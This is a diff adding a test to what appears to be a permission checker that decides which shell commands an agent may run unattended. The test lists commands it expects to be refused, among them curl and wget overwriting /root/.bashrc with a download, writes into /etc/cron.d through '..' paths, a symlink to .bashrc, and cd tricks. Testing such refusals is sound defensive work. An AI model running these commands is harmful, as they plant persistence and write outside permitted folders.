@@ -125,6 +125,24 @@ describe("what runs with no one pressing a key: only what is known to read or wr
     expect(await own("git push --set-upstream origin feature", "git push", "    git push --set-upstream origin feature\n")).toBe(true);
   });
 
+  test("where a path really leads decides: `..` anywhere in it, a link in the folder, a value glued to its option, a cd", async () => {
+    const { symlinkSync } = await import("node:fs");
+    symlinkSync(join(tmpdir(), "..", "root", ".bashrc"), join(cwd, "bashrc_link"));
+    for (const plan of [
+      "curl -sSLo/root/.bashrc http://example.com/x",
+      "wget -O/root/.bashrc http://example.com/x",
+      "iconv -o/etc/cron.d/x -f utf8 notes.txt",
+      "cp notes.txt src/../../../../../etc/cron.d/x",
+      "touch src/../../../../../root/.hushlogin",
+      "echo hi >> bashrc_link",
+      "git log --output=bashrc_link",
+      "cd -- .. && echo x > pwned",
+      "cd src/../.. && echo x > pwned",
+      "cd /tmp/../root && echo x >> .bashrc",
+    ]) expect([plan, await runsUnattended(plan)]).toEqual([plan, false]);
+    for (const plan of ["touch new.txt", "gcc -o app main.c", "bazel build //app:all", "mkdir -p build/out"]) expect([plan, await runsUnattended(plan)]).toEqual([plan, true]);
+  });
+
   test("a program aye does not know, asked only for its help or version, prints it; a path is the project's own", async () => {
     expect(await runsUnattended("frobnicate --help")).toBe(true);
     expect(await runsUnattended("frobnicate --version")).toBe(true);
